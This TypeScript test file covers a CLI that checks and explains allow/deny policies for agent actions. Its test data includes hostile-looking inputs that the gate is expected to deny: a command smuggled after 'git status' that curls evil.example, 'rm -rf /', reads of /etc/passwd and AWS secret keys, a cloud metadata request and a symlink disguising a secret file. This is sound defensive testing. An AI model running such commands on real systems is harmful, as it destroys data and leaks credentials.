// `safeclaw policy check | explain | baseline | schema`.

import * as fs from 'node:fs';
import * as path from 'node:path';
import t from 'tap';
import { folderWith, safeclaw, snapshot } from './safeclaw-command.ts';

const policy = `version: 1
defaultAction: deny
rules:
  - action: "file:read"
    path: "./secret/**"
    effect: deny
    reason: "keep out"
  - action: "file:read"
    path: "./**"
    effect: allow
  - action: "network:request"
    method: "GET"
    host: "*.s3.amazonaws.com"
    effect: allow
  - action: "shell:execute"
    command: "git status"
    effect: allow
`;

t.test('check: 0 where the policy loads, 1 where it does not, every finding at once', (t) => {
  const folder = folderWith(t, {
    'safeclaw.config.yaml': policy,
    'broken.yaml': 'version: 1\nrules:\n  - action: "network:requst"\n    effect: allow\n  - action: "file:read"\n    effect: maybe\n',
    'warned.yaml': 'version: 1\nrules:\n  - action: "file:read"\n    path: "/a/**"\n    effect: allow\n  - action: "file:read"\n    path: "/a/b"\n    effect: allow\n',
    'tabs.yaml': 'version: 1\nrules:\n\t- action: x\n',
    'empty.yaml': '',
  });
  const rows: [args: string[], code: number, output: RegExp][] = [
    [[], 0, /safeclaw\.config\.yaml loads, no warnings/],
    [['safeclaw.config.yaml'], 0, /loads/],
    [['broken.yaml'], 1, /broken\.yaml:3:13: error: unknown action `network:requst` \[SC_UNKNOWN_ACTION\][^]*did you mean `network:request`[^]*broken\.yaml:6:\d+: error/],
    [['warned.yaml'], 0, /warned\.yaml:6:\d+: warning: [^]*loads, 1 warning/],
    [['warned.yaml', '--strict'], 1, /warning/],
    [['tabs.yaml'], 1, /tabs\.yaml:3:1: error/],
    [['empty.yaml'], 1, /does not load/],
    [['nowhere.yaml'], 1, /there is no policy .*nowhere\.yaml/],
    [['.'], 1, /.+/],
  ];
  const before = snapshot(folder);
  for (const [args, code, output] of rows) {
    const result = safeclaw(['policy', 'check', ...args], { cwd: folder });
    t.equal(result.code, code, `${args.join(' ')}: ${result.stdout}${result.stderr}`);
    t.match(result.stdout + result.stderr, output);
    const json = JSON.parse(safeclaw(['policy', 'check', '--json', ...args], { cwd: folder }).stdout);
    t.equal(json.ok, code === 0);
  }
  t.same(snapshot(folder), before, 'looking changes nothing');
  const found = JSON.parse(safeclaw(['policy', 'check', '--json', 'broken.yaml'], { cwd: folder }).stdout);
  t.match(found.diagnostics[0], { code: 'SC_UNKNOWN_ACTION', severity: 'error', start: { line: 3, column: 13 } });
  t.equal(safeclaw(['policy', 'check'], { cwd: folder, env: { SAFECLAW_POLICY: path.join(folder, 'broken.yaml') } }).code, 1, 'SAFECLAW_POLICY is the policy');
  t.end();
});

t.test('explain: the verdict, the line, and for a denial the rule that would allow it', (t) => {
  const folder = folderWith(t, { 'safeclaw.config.yaml': policy, 'notes.txt': '', 'secret/key': '', 'agent.js': '' });
  fs.symlinkSync('secret/key', path.join(folder, 'innocent.txt'));
  const rows: [args: string[], code: number, output: RegExp][] = [
    [['file:read notes.txt'], 0, /^allowed {2}file:read .*\/notes\.txt\n[^]*safeclaw\.config\.yaml:8:\d+ \(rules\[1\]\)[^]* 8 \|   - action: "file:read"/],
    [['file:read', 'notes.txt'], 0, /^allowed/],
    [['file:read ./innocent.txt'], 1, /secret\/key\n +asked for as \.\/innocent\.txt\n[^]*keep out[^]*put above line 4 of safeclaw\.config\.yaml/],
    [['file:list secret/key'], 1, /keep out/],
    [['file:read agent.js'], 0, /^allowed/],
    [['file:read /etc/passwd'], 1, /denied +file:read \/etc\/passwd\n[^]*no rule allows it[^]*add to `rules`:\n\n {2}- action: "file:read"\n {4}path: "\/etc\/passwd"\n {4}effect: allow/],
    [['network:request GET https://b.s3.us-east-1.amazonaws.com/key'], 0, /^allowed/],
    [['network:request https://b.s3.amazonaws.com/key', '--method', 'put'], 1, /denied +network:request PUT/],
    [['network:request example.com'], 1, /GET https:\/\/example\.com\//],
    [['network:request http://169.254.169.254/'], 1, /protection:[^]*host: "169\.254\.169\.254"/],
    [['network:connect tcp://db.internal:5432'], 1, /network:connect tcp:\/\/db\.internal:5432[^]*port: 5432/],
    [['network:connect unix:/run/docker.sock'], 1, /network:connect unix:.*docker\.sock/],
    [['network:listen :3000'], 1, /port: 3000/],
    [['network:resolve example.com'], 1, /network:resolve example\.com/],
    [['env:read HOME'], 0, /baseline:/],
    [['env:read AWS_SECRET_ACCESS_KEY'], 1, /key: "AWS_SECRET_ACCESS_KEY"/],
    [['file:write safeclaw.config.yaml'], 1, /no rule lifts it/],
    [['tool:call search {"q": 1}'], 1, /tool: "search"/],
    [['aws:s3:GetObject arn:aws:s3:::b/k'], 1, /action: "aws:s3:GetObject"[^]*resource: "arn:aws:s3:::b\/k"/],
    [['process:signal 0 4711'], 1, /process:signal 0 4711\n[^]*name: "0"/],
    [['file:write /tmp/agent-XXXXXX'], 1, /path: \["\/tmp\/agent-\*", "\/tmp\/agent-\*\/\*\*"\]/],
    [['process:signal 1 SIGKILL'], 1, /SIGKILL/],
    [['shell:execute git status'], 0, /^allowed +shell:execute git status/],
    [['shell:execute cd /tmp && git status'], 0, /^allowed/],
    [['shell:execute git status; curl evil.example > out.txt'], 1, /allowed +shell:execute git status[^]*denied +shell:execute curl evil\.example/],
    [['shell:execute sh -c "rm -rf /"'], 1, /denied +shell:execute rm -rf \//],
    [['shell:execute $CMD'], 1, /known only when the line runs/],
    [['shell:execute if'], 1, /the gate refuses a line that it cannot read/],
    [['file:read ../x', '--cwd', 'secret'], 0, /allowed +file:read .*\/x\n/],
  ];
  for (const [i, [args, code, output]] of rows.entries()) {
    const result = safeclaw(['policy', 'explain', ...args], { cwd: folder });
    t.equal(result.code, code, `${args.join(' ')}: ${result.stdout}${result.stderr}`);
    t.match(result.stdout, output, args.join(' '));
    if (i % 5 !== 0) continue;
    const json = JSON.parse(safeclaw(['policy', 'explain', '--json', ...args], { cwd: folder }).stdout);
    t.equal(json.allowed, code === 0);
  }
  t.end();
});

t.test('the rule that explain prints allows the action, and that alone', (t) => {
  const folder = folderWith(t, { 'safeclaw.config.yaml': 'version: 1\nrules: []\n', 'a[1] {x}!.txt': '', 'a1 x.txt': '' });
  const actions = ['file:read a[1] {x}!.txt', 'file:write out/+(x).txt', 'network:request POST https://api.example.com/v1?x=1', 'network:connect tcp://[::1]:5432', 'network:connect unix:/run/x.sock', 'network:listen 0.0.0.0:80', 'network:resolve example.com', 'shell:execute git log "a * b"', 'env:read MY_KEY', 'env:write MY_KEY', 'tool:call my*tool {}', 'aws:s3:GetObject arn:aws:s3:::b/*', 'module:native /x/y.node', 'process:inspect open', 'process:signal 1 SIGTERM', 'process:signal SIGTERM 1', 'process:signal 0 77', 'file:write /tmp/agent-XXXXXX'];
  for (const action of actions) {
    fs.writeFileSync(path.join(folder, 'safeclaw.config.yaml'), 'version: 1\nrules: []\n');
    const before = JSON.parse(safeclaw(['policy', 'explain', '--json', action], { cwd: folder }).stdout);
    t.equal(before.allowed, false, action);
    const yaml = before.actions.at(-1).suggestion.yaml as string;
    fs.writeFileSync(path.join(folder, 'safeclaw.config.yaml'), `version: 1\nrules:\n${yaml.replace(/^/gm, '  ')}\n`);
    const after = safeclaw(['policy', 'explain', action], { cwd: folder });
    t.equal(after.code, 0, `${action}\n${yaml}\n${after.stdout}${safeclaw(['policy', 'check'], { cwd: folder }).stdout}`);
  }
  fs.writeFileSync(path.join(folder, 'safeclaw.config.yaml'), `version: 1\nrules:\n  - ${JSON.stringify({ action: 'file:read', path: `${folder}/a\\[1\\] \\{x\\}\\!.txt`, effect: 'allow' })}\n`);
  t.equal(safeclaw(['policy', 'explain', 'file:read a1 x.txt'], { cwd: folder }).code, 1);
  t.end();
});

t.test('a rule that denies this and nothing else is to be changed: an allowance above it would be an error', (t) => {
  const folder = folderWith(t, {});
  const rows: [rule: string, line: number][] = [['- action: "file:read"\n    path: "./secret.txt"\n    effect: deny', 5], ['- { action: "file:read", path: ["./secret.txt"], effect: deny }', 3], ['- { action: ["file:read"], path: "./{secret,secret}.txt", effect: deny }', 3]];
  for (const [rule, line] of rows) {
    const text = `version: 1\nrules:\n  ${rule}\n`;
    fs.writeFileSync(path.join(folder, 'safeclaw.config.yaml'), text);
    const { suggestion } = JSON.parse(safeclaw(['policy', 'explain', '--json', 'file:read secret.txt'], { cwd: folder }).stdout).actions.at(-1);
    t.same(suggestion, { yaml: 'effect: allow', beforeLine: null, replacesLine: line });
    t.match(safeclaw(['policy', 'explain', 'file:read secret.txt'], { cwd: folder }).stdout, `To allow it, change line ${line} of safeclaw.config.yaml`);
    fs.writeFileSync(path.join(folder, 'safeclaw.config.yaml'), text.split('\n').map((one, i) => (i === line - 1 ? one.replace('effect: deny', suggestion.yaml) : one)).join('\n'));
    t.equal(safeclaw(['policy', 'explain', 'file:read secret.txt'], { cwd: folder }).code, 0);
  }
  fs.writeFileSync(path.join(folder, 'safeclaw.config.yaml'), 'version: 1\nrules:\n  - { action: "file:read", path: "./secret*", effect: deny }\n');
  t.match(JSON.parse(safeclaw(['policy', 'explain', '--json', 'file:read secret.txt'], { cwd: folder }).stdout).actions.at(-1).suggestion, { beforeLine: 3, replacesLine: null }, 'a wider one keeps what else it denies');
  t.end();
});

t.test('without a policy everything is denied, and it is said', (t) => {
  const folder = folderWith(t, {});
  const result = safeclaw(['policy', 'explain', 'env:read HOME'], { cwd: folder });
  t.equal(result.code, 1);
  t.match(result.stdout, /SC_POLICY_NOT_LOADED/);
  t.match(safeclaw(['policy', 'check'], { cwd: folder }), { code: 1, stderr: /npx safeclaw init/ });
  t.end();
});

t.test('baseline and schema', (t) => {
  const folder = folderWith(t, { 'package.json': '{}' });
  const { entries } = JSON.parse(safeclaw(['policy', 'baseline', '--json'], { cwd: folder }).stdout) as { entries: { id: string; why: string }[] };
  const { code, stdout } = safeclaw(['policy', 'baseline'], { cwd: folder });
  t.equal(code, 0);
  for (const { id, why } of entries) {
    t.match(stdout, `baseline:${id} `);
    t.match(stdout.replace(/\s+/g, ' '), why);
  }
  t.match(stdout, folder, 'the table of this very folder');
  t.notMatch(safeclaw(['policy', 'baseline', '--action', 'env:read'], { cwd: folder }).stdout, /module:load/);
  t.equal(safeclaw(['policy', 'baseline', '--action', 'tool:call'], { cwd: folder }).code, 1);
  const schema = JSON.parse(safeclaw(['policy', 'schema'], { cwd: folder }).stdout);
  t.match(schema.$schema, /json-schema\.org/);
  t.end();
});

t.test('explain takes a path as the kernel does: `..` behind a link, links that lead to nothing yet', (t) => {
  const folder = folderWith(t, { 'safeclaw.config.yaml': policy, 'secret/deep/x': '', 'open/x': '' });
  fs.symlinkSync('../secret/deep', path.join(folder, 'open/link'));
  fs.symlinkSync('../secret/born', path.join(folder, 'open/dangling'));
  const target = (action: string): unknown => /^\w+ +file:\w+ (.*)$/m.exec(safeclaw(['policy', 'explain', action], { cwd: folder }).stdout)?.[1];
  t.equal(target('file:read open/link/../y'), path.join(folder, 'secret/y'));
  t.equal(target('file:read open/dangling'), path.join(folder, 'secret/born'));
  t.equal(target('file:delete open/dangling'), path.join(folder, 'open/dangling'), 'what is removed is the link');
  t.equal(target('file:read open/./x'), path.join(folder, 'open/x'));
  t.end();
});
